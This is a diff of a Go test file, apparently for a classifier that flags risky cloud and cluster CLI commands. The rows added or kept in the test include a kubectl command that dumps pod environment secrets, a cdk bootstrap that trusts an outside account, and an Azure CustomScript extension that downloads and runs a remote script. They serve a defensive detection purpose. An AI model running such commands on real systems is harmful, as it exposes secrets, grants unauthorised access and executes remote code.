@@ -327,6 +327,9 @@ func TestCloudAccessAndKeys(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 	explainRow(t, "kubectl exec redis-master-ft9ex env", SecretRead, "podEnvironmentRead", []string{"kubectl", "exec", "env"})
+	explainRow(t, "cdk bootstrap aws://1/r --trust 123456789012", PrivilegeEscalation, "cdkTrust", []string{"cdk", "bootstrap", "--trust"})
+	explainRow(t, "az vm extension set -g rg --vm-name vm --name CustomScript --settings '{\"fileUris\": [\"https://x/s.sh\"], \"commandToExecute\": \"./s.sh\"}'",
+		DownloadExecute, "cloudRunsElsewhere", []string{"az", "vm", "extension", "set", "CustomScript", "fileUris"})
 }
 
 // TestCloudCallUnsetVariable: a cloud or cluster CLI given a variable the
